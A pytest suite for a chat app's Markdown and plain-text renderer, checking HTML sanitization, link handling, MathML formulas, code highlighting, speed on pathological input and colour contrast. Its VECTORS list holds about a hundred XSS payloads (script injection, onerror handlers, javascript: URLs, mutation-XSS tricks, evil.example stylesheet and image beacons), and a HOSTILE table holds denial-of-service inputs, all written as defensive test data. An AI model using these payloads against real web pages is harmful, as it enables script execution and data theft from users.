"""Messages as HTML: what is shown, what can never happen, what it costs."""

import re
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from django.utils.safestring import SafeString
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conversations.rendering import render_markdown, render_plain
from conversations.rendering.code import TOKEN_CLASSES

VOID = {"br", "hr", "input"}
FORBIDDEN = {
    "script",
    "style",
    "img",
    "iframe",
    "object",
    "embed",
    "svg",
    "form",
    "link",
    "meta",
    "base",
    "video",
    "audio",
}
HARMLESS = {
    "accent", "alttext", "aria-label", "checked", "class", "columnalign", "columnlines", "columnspacing",
    "depth", "dir", "disabled", "display", "displaystyle", "fence", "form", "height", "href",
    "largeop", "linethickness", "lspace", "mathvariant", "maxsize", "minsize", "movablelimits", "notation", "rel",
    "rowlines", "rowspacing", "rspace", "scriptlevel", "start", "stretchy", "tabindex", "target", "title", "type",
    "voffset", "width",
}  # fmt: skip


class Page(HTMLParser):
    """Reads HTML as a tokenizer does, and notes each element with its attributes and whether all are closed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.path: list[str] = []
        self.balanced = True
        self.feed(html)
        self.close()
        self.balanced = self.balanced and not self.path

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.path.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.path or self.path.pop() != tag:
            self.balanced = False

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"A comment reached the page: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"A declaration reached the page: {decl}")

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


def harmless(html: str) -> Page:
    """The page, after making sure that nothing on it can run, load, or leave without a click."""
    page = Page(html)
    assert page.balanced
    for tag, attributes in page.elements:
        assert tag not in FORBIDDEN
        assert set(attributes) <= HARMLESS
        address = attributes.get("href")
        assert address is None or (tag == "a" and address.lower().startswith(("http://", "https://", "mailto:")))
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        assert tag not in ("button", "input") or attributes["type"] in ("button", "checkbox")
    return page


def page_of(markdown: str) -> Page:
    return harmless(render_markdown(markdown))


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x style='position:fixed;inset:0'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>' ?>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x",
    "<br onclick=alert(1)>",
    "<br/onmouseover=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](?delete=1)",
    "[x](#top)",
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://example.com 't\" onmouseover=\"alert(1)')",
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://example.com '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    '<https://example.com/"onclick=alert(1)>',
    'https://example.com/"onclick="alert(1)',
    "https://example.com/'><script>alert(1)</script>",
    "https://example.com/&quot;onclick=alert(1)",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://example.com/x.png)',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![<script>alert(1)</script>](https://example.com)",
    "![[x](javascript:alert(1))](https://example.com)",
    '```"><script>alert(1)</script>\ncode\n```',
    '```python"onmouseover="alert(1)\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```math\n\\text{<script>alert(1)</script>}\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` <script>alert(1)</script> ```",
    "$<script>alert(1)</script>$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\href{https://evil.example}{x}$",
    '$\\class{a" onmouseover="alert(1)}{x}$',
    "$\\style{background:url(https://evil.example)}{x}$",
    '$\\color{red" onmouseover="alert(1)}x$',
    "$\\colorbox{url(https://evil.example)}{x}$",
    '$\\hspace{1em" onmouseover="alert(1)}$',
    "$\\rule{9999em}{9999em}$",
    '$\\begin{array}{c" onmouseover="alert(1)} x \\end{array}$',
    "$\\operatorname{<script>}$ $\\verb|<script>alert(1)</script>|$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "\\[ \\frac{<script>alert(1)</script>} \\]",
    "$$\n\\undefined{<img src=x onerror=alert(1)>}\n$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "|<script>|<img src=x onerror=alert(1)>|\n|--|--|\n|[x](javascript:alert(1))|<iframe>|",
    "> - > <script>alert(1)</script>\n>   > [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "*<script>*alert(1)*</script>*",
    "**[x](javascript:alert(1)** )",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    '[^"><script>]\n\n[^"><script>]: x',
    "- [x] <script>alert(1)</script>",
    "<div id=composer name=csrfmiddlewaretoken class=dock tabindex=1>x</div>",
    "<p style='background:url(https://evil.example)'>x",
    "\u2028<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0b>",
    "\ud83c<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("render", [render_markdown, render_plain])
def test_nothing_an_attacker_writes_can_run_or_load(vector: str, render: Callable[[str], str]) -> None:
    harmless(render(vector))
    harmless(render(f"Text before\n\n{vector}\n\ntext after"))
    harmless(render(f"- item {vector}\n\n> {vector}\n"))


PIECES = st.sampled_from(
    [
        *VECTORS,
        *"\n*_~`[]()!<>|#$&:-+=\\\"'{} ",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "```",
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "**",
        "[^1]",
        "[^1]: ",
        "|-|-|\n",
        "https://a.b",
        "مرحبا",
        "中",
        "\\frac",
        "\\begin{align}",
        "\\end{align}",
        "\\text{",
        "&lt;",
        "&#x3c;",
        "<br>",
        "x",
    ]
)
TEXTS = st.text(st.characters() | st.characters(categories=["Cs", "Cc"])) | st.lists(PIECES, max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
@example("$\\" * 50)
@example("![" * 300 + "](x)" * 300)
def test_any_text_can_be_rendered_and_is_harmless(text: str) -> None:
    harmless(render_markdown(text))
    harmless(render_plain(text))


@settings(deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])))
def test_plain_text_shows_every_character(text: str) -> None:
    shown = Page(render_plain(text)).text

    assert "".join(shown.split()) == "".join(text.split())


def test_a_user_keeps_line_breaks_and_paragraphs() -> None:
    html = render_plain("first\n  second\r\n\r\n\nthird <b>")

    assert isinstance(html, SafeString)
    assert html == (
        '<p class="as-typed" dir="auto">first<br>  second</p>\n<p class="as-typed" dir="auto">third &lt;b&gt;</p>'
    )


def test_a_user_keeps_markdown_as_typed() -> None:
    assert "**not bold** [a](https://a.example)" in Page(render_plain("**not bold** [a](https://a.example)")).text


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("see https://example.com/a_b_c?x=1&y=2.", ["https://example.com/a_b_c?x=1&y=2"]),
        ("(https://en.wikipedia.org/wiki/A_(b))", ["https://en.wikipedia.org/wiki/A_(b)"]),
        ("请看https://example.com。谢谢", ["https://example.com"]),
        ("'https://a.example/', <https://b.example>!", ["https://a.example/", "https://b.example"]),
        ("HTTPS://EXAMPLE.COM", ["HTTPS://EXAMPLE.COM"]),
        ("main.py example.com xhttps://example.com https:// ftp://example.com", []),
        ("https://example.com/" + "a" * 3000, []),
    ],
)
@pytest.mark.parametrize("render", [render_markdown, render_plain])
def test_written_addresses_become_links(render: Callable[[str], str], text: str, addresses: list[str]) -> None:
    assert [attributes["href"] for attributes in harmless(render(text)).all("a")] == addresses


def test_a_link_that_is_not_followed_is_shown_as_written() -> None:
    page = page_of("[our own page](/accounts/logout/)")

    assert not page.all("a")
    assert "[our own page](/accounts/logout/)" in page.text


def test_a_link_to_nowhere_is_only_its_text() -> None:
    page = page_of("[one]() and ![an image]() and [two](https://example.com)")

    assert [one["href"] for one in page.all("a")] == ["https://example.com"]
    assert page.text.strip() == "one and an image and two"


def test_an_image_is_a_link_under_its_description() -> None:
    page = page_of("![A *cat*](https://example.com/cat.png) [![Badge](https://a.example/b.png)](https://c.example)")

    assert [(one["href"], one.get("class")) for one in page.all("a")] == [
        ("https://example.com/cat.png", "image-link"),
        ("https://c.example", None),
    ]
    assert page.text.split() == ["A", "cat", "Badge"]


def test_headings_start_below_those_of_the_page() -> None:
    html = render_markdown("# A\n## B\n### C\n#### D\n###### F\nSetext\n===")

    assert [tag for tag, _ in Page(html).elements if tag[0] == "h"] == ["h3", "h4", "h5", "h6", "h6", "h3"]


def test_nothing_has_an_id_so_two_messages_never_clash() -> None:
    html = render_markdown("# A\n\nNote[^1] and[^1].\n\n[^1]: *That*\n\n[^2]: unused\n\n$$a$$ (eq1)")

    page = harmless(html)

    assert " id=" not in html
    assert page.text.count("1") >= 2
    assert "That" in page.text
    assert "unused" in page.text


def test_a_code_block_names_its_language_and_offers_a_copy() -> None:
    html = render_markdown('```python title="x.py"\ndef f(): return "<b>"  # note\n```')

    page = harmless(html)

    assert html.startswith('<figure class="code"><figcaption><span class="code-language">python</span>')
    assert page.all("button") == [{"type": "button", "class": "code-copy"}]
    assert page.all("pre") == [{"dir": "ltr", "tabindex": "0"}]
    assert '<span class="k">def</span> <span class="nf">f</span>' in html
    assert page.text == 'pythonCopydef f(): return "<b>"  # note\n\n'


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "mermaid", "../../etc/passwd", "x" * 200])
def test_code_of_an_unknown_language_is_shown_plain(language: str) -> None:
    html = render_markdown(f"```{language}\nif x: pass\n```")

    assert "<code>if x: pass\n</code>" in html
    assert language[:30] in Page(html).text


@pytest.mark.parametrize(
    "name", ["js", "ts", "py", "sh", "c++", "C#", "Dockerfile", "YAML", "golang", "sql", "html", "diff"]
)
def test_common_names_of_languages_are_known(name: str) -> None:
    code = "+ <a> SELECT 'x' FROM y # 1 // 2\nx: 'y'\n"

    assert '<span class="' in render_markdown(f"```{name}\n{code}```").split("<code>")[1]


def test_a_fence_left_open_is_still_a_code_block() -> None:
    assert "<code>" in render_markdown("```python\nprint(1)")


@pytest.mark.parametrize(
    "markdown",
    [
        "$\\frac{a}{b}$",
        "\\(\\frac{a}{b}\\)",
        "$$\\frac{a}{b}$$",
        "\\[\\frac{a}{b}\\]",
        "Here:\n$$\n\\frac{a}{b}\n$$",
        "Here:\n\\[\n\\frac{a}{b}\n\\]",
        "- so\n  $$\n  \\frac{a}{b}\n  $$",
        "> \\[\n> \\frac{a}{b}\n> \\]",
        "```math\n\\frac{a}{b}\n```",
        "| x |\n|---|\n| $\\frac{a}{b}$ |",
    ],
)
def test_a_formula_is_mathml_however_it_is_delimited(markdown: str) -> None:
    html = render_markdown(markdown)

    assert "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>" in html
    assert "$" not in html
    assert "math-source" not in html


@pytest.mark.parametrize(
    "delimited", ["$$\nx\n$$", "\\[\nx\n\\]", "\\[x\\]", "$$x$$", "\\begin{equation}\nx\n\\end{equation}"]
)
def test_a_displayed_formula_has_a_block_of_its_own(delimited: str) -> None:
    assert '<div class="math-block"><math display="block"' in render_markdown(delimited)


@pytest.mark.parametrize(
    "latex",
    [
        "\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}",
        "\\begin{gathered} a \\\\ b \\end{gathered}",
        "\\begin{cases} 1 & x > 0 \\\\ 0 & \\text{otherwise} \\end{cases}",
        "\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}",
        "a \\\\ b",
        "E = mc^2 \\label{eq:energy} \\tag{1}",
        "\\boxed{\\hat{\\theta} = \\underset{\\theta}{\\arg\\max}\\; p(x \\mid \\bm{\\theta})}",
        "\\mathbb{R}^{n \\times m} \\to \\mathcal{L}, \\quad \\lVert x \\rVert_2",
    ],
)
def test_the_latex_that_models_write_is_understood(latex: str) -> None:
    html = render_markdown(f"$$\n{latex}\n$$")

    assert "<math" in html
    assert "\\" not in Page(html).text


def test_limits_stand_under_the_operator() -> None:
    assert '<munder><mo movablelimits="true" lspace="0" rspace="0">lim</mo>' in render_markdown(
        "$$\\lim_{n \\to \\infty} a_n$$"
    )


def test_a_matrix_with_its_brackets_is_one_base() -> None:
    html = render_markdown("$$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}^{-1}$$")

    fence = '<msup><mrow><mo stretchy="true" fence="true" form="prefix">(</mo><mtable>'
    assert fence in html
    assert (
        '</mtable><mo stretchy="true" fence="true" form="postfix">)</mo></mrow><mrow><mo>−</mo><mn>1</mn></mrow></msup>'
        in html
    )


@pytest.mark.parametrize("latex", ["\\binom{n}{k}^2", "\\begin{bmatrix}1\\end{bmatrix}_i^T", "\\left(x\\right)^2"])
def test_a_script_has_one_base(latex: str) -> None:
    html = render_markdown(f"${latex}$")

    script = next(element for element in ET.fromstring(html).iter() if element.tag.startswith("msu"))
    assert len(script) == {"msup": 2, "msub": 2, "msubsup": 3}[script.tag]


THIN_SPACE = '<mspace width="0.1667em"></mspace>'


@pytest.mark.parametrize(
    ("latex", "shown"),
    [
        ("n \\log n", f"<mi>n</mi>{THIN_SPACE}<mi>log</mi><mo>\u2061</mo>{THIN_SPACE}<mi>n</mi>"),
        ("\\exp(x)", '<mi>exp</mi><mo>\u2061</mo><mo stretchy="false">(</mo>'),
        ("\\sin^2 x", f"<msup><mi>sin</mi><mn>2</mn></msup><mo>\u2061</mo>{THIN_SPACE}<mi>x</mi>"),
        ("\\max_i x", f"</munder>{THIN_SPACE}<mi>x</mi>"),
        ("a + \\ln b", f"<mo>+</mo><mi>ln</mi><mo>\u2061</mo>{THIN_SPACE}<mi>b</mi>"),
        ("\\cos\\theta\\sin\\phi", f"<mi>θ</mi>{THIN_SPACE}<mi>sin</mi>"),
    ],
)
def test_names_of_functions_stand_apart_from_what_is_beside_them(latex: str, shown: str) -> None:
    assert shown in render_markdown(f"${latex}$")


@pytest.mark.parametrize(
    "latex",
    [
        "\\frac{a}{",
        "\\unknowncommand x",
        "\\left( x",
        "x^1^2",
        "\\begin{foo} x",
        "a & b",
        "\\def\\a{\\a\\a}\\a",
        "{" * 2500,
        "x" * 2990 + "\\foo",
    ],
)
def test_a_formula_that_cannot_be_read_is_shown_as_written(latex: str) -> None:
    page = page_of(f"${latex}$")

    assert page.all("code") == [{"class": "math-source", "dir": "ltr"}]
    assert page.text.strip() == f"${latex}$"


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and then $10.",
        "US$5 or 5$",
        "$5/month, $50/year",
        "$20–$30",
        "$HOME/$PATH",
        "$ 5 $",
        "\\$x\\$",
        "`$x$`",
        "$$",
        "\\\\(x\\\\)",
        "$" + "a" * 4000 + "$",
    ],
)
def test_amounts_and_variables_are_no_formulas(text: str) -> None:
    assert not page_of(text).all("math")


def test_tables_scroll_on_their_own_and_keep_their_alignment() -> None:
    html = render_markdown("| a | b | c |\n|---|:-:|--:|\n| 1 | 2<br>3 | 4 |")

    assert html.startswith('<div class="table-scroll" tabindex="0"><table dir="auto">')
    assert '<td dir="auto" class="align-center">2<br>\n3</td>' in html
    assert '<th dir="auto" class="align-right">c</th>' in html


def test_a_task_list_shows_what_is_done() -> None:
    boxes = page_of("- [x] done\n- [ ] open").all("input")

    assert [box.get("checked") for box in boxes] == ["", None]
    assert all(box["disabled"] == "" for box in boxes)
    assert {box["aria-label"] for box in boxes} == {"Task"}


def test_a_single_newline_breaks_the_line() -> None:
    assert render_markdown("roses\nviolets") == '<p dir="auto">roses<br>\nviolets</p>\n'


def test_raw_html_is_shown_as_text() -> None:
    assert page_of("<b>bold</b> <!-- note -->").text.strip() == "<b>bold</b> <!-- note -->"


@pytest.mark.parametrize("text", ["**重要：**请注意", "これは**「大事」**です", "한국어 **강조(强調)**입니다"])
def test_emphasis_works_beside_scripts_without_spaces(text: str) -> None:
    page = page_of(text)

    assert page.all("strong")
    assert "*" not in page.text


def test_each_block_has_a_direction_and_a_list_that_of_its_words() -> None:
    html = render_markdown("مرحبا\n\n- أول\n\n- ثان\n\n> اقتباس\n\n1. first\n\n```\nx\n```")

    assert '<p dir="auto">مرحبا</p>' in html
    assert '<ul dir="rtl">\n<li dir="rtl">' in html
    assert '<blockquote dir="rtl">' in html
    assert '<ol dir="auto">\n<li dir="auto">first' in html


def test_a_list_without_words_takes_no_direction_from_what_follows() -> None:
    assert render_markdown("- 1\n\nمرحبا").startswith('<ul dir="auto">\n<li dir="auto">1')


HOSTILE = {
    "quotes": ">" * 10_000,
    "quotes and lines": "> " * 17 + "\n" + "b\n" * 9_000,
    "deep list": "\n".join("  " * depth + "- a" for depth in range(90)),
    "lines": "\n".join(f"line {number}" for number in range(9_900)),
    "paste of lines": "\n".join(f"line {number}" for number in range(20_000)),
    "asterisks": "*" * 100_000,
    "spaced asterisks": "*a " * 9_900,
    "brackets": "[" * 100_000,
    "some brackets": "[" * 9_900,
    "images": "![" * 4_900,
    "links": "[a](" * 9_900,
    "backticks": "`a" * 9_900,
    "fences": "```\n" * 2_400,
    "dollars": "$a " * 9_900,
    "round openings": "\\(" * 9_900,
    "square openings": "\\[\n" * 3_300,
    "escaped closings": "\\(\\\\)" * 3_300,
    "formulas": "$x^{2}$ " * 4_900,
    "a wide table": "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "x\n" * 640,
    "wide tables": ("|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "x\n" * 90 + "\n") * 20,
    "entities": "&amp;" * 40_000,
    "addresses": "https://a.example/) " * 9_900,
    "closing brackets": "https://a" + ")" * 100_000,
    "footnotes": "[^a]:" * 2_400,
    "emoji": "😀" * 10_000,
    "combining": "e" + "\u0301" * 100_000,
    "whitespace": " " * 200_000,
    "code of one sign": "```c\n" + "(" * 29_000 + "\n```",
    "code of spaces": "```cpp\n" + " \n" * 14_000 + "x\n```",
    "code of open strings": "```javascript\n" + '"a\\' * 9_900 + "\n```",
    "two hundred thousand": "a" * 200_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_takes_no_seconds(name: str) -> None:
    started = time.thread_time()

    html = render_markdown(HOSTILE[name])

    assert time.thread_time() - started < 3
    assert harmless(html).path == []


@pytest.mark.parametrize(
    "text", ["> " * 30 + "inmost", "\n".join("  " * depth + "- a" for depth in range(30)) + " inmost"]
)
def test_text_nested_too_deeply_is_shown_plain_rather_than_lost(text: str) -> None:
    html = render_markdown(text)

    assert "as-typed" in html
    assert "inmost" in html


def test_text_too_large_to_parse_is_shown_plain() -> None:
    assert "as-typed" in render_markdown("**a** " * 40_000)


def test_a_typical_answer_is_rendered_in_milliseconds() -> None:
    answer = "## Heading\n\nSome **bold** text with `code` and [a link](https://example.com).\n\n- one\n- two\n\n" * 12
    answer += "```python\n" + "def f(x: int) -> int:\n    return x + 1\n" * 12 + "```\n"
    render_markdown(answer)
    started = time.thread_time()

    for _ in range(10):
        render_markdown(answer)

    assert time.thread_time() - started < 1


def test_threads_may_render_at_the_same_time() -> None:
    texts = [f"# {n}\n\n- **{n}** $x^{{{n}}}$\n\n```python\nx = {n}\n```\n\n[^a]\n\n[^a]: note {n}" for n in range(40)]
    expected = [render_markdown(text) for text in texts]

    with ThreadPoolExecutor(8) as pool:
        rendered = list(pool.map(render_markdown, texts * 5))

    assert rendered == expected * 5


def test_an_answer_rendered_twice_is_the_same() -> None:
    text = "a[^1] $x$\n\n[^1]: b\n\n```python\nx = 1\n```"

    assert render_markdown(text) == render_markdown(text)


CSS = Path(__file__).resolve().parent.parent / "static" / "css"


def test_every_class_of_a_token_has_a_colour() -> None:
    stylesheet = (CSS / "code.css").read_text()

    assert {name for name in TOKEN_CLASSES if not re.search(rf"\.{name}\b", stylesheet)} == set()


def test_the_colours_of_code_have_enough_contrast_in_both_schemes() -> None:
    pair = r"light-dark\((#\w{6}), (#\w{6})\)"
    ground = re.findall(rf"--code-bg: {pair}", (CSS / "tokens.css").read_text())[0]
    colours = re.findall(rf"--code-\w+: {pair}", (CSS / "code.css").read_text())

    assert len(colours) > 5
    for colour in colours:
        assert [contrast(*both) >= 4.5 for both in zip(colour, ground, strict=True)] == [True, True]


def contrast(one: str, other: str) -> float:
    """The contrast ratio of WCAG 2: from 1 to 21."""
    darker, lighter = sorted((luminance(one), luminance(other)))
    return (lighter + 0.05) / (darker + 0.05)


def luminance(colour: str) -> float:
    parts = [int(colour[start : start + 2], 16) / 255 for start in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
